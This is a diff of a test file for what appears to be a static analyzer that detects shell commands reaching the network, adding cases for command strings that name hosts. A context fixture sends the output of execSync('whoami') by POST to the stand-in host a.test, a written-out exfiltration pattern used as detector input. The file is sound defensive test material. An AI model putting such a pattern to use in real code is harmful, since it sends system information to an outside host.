@@ -91,6 +91,17 @@ describe("what becomes of a command line", () => {
   });
 });
 
+test.each<[string, boolean]>([
+  ["wmic process where (ProcessId=7) get ProcessId,CommandLine /format:csv", false],
+  ["find . -name host", false],
+  ["http show", false],
+  ["get https://a.test/x", true],
+  ["http a.test/x", true],
+])("a word that is a program, too, asks a machine that it names: %s", (line, isAsked) => {
+  const found = foundIn(`${cp} cp.execSync(${JSON.stringify(line)});`);
+  expect(found.kinds.includes("snk.net")).toBe(isAsked);
+});
+
 test("what a command prints is traced", () => {
   const found = foundIn(
     `${cp} const out = cp.execSync("whoami").toString(); fetch("https://a.test", { method: "POST", body: out });`,
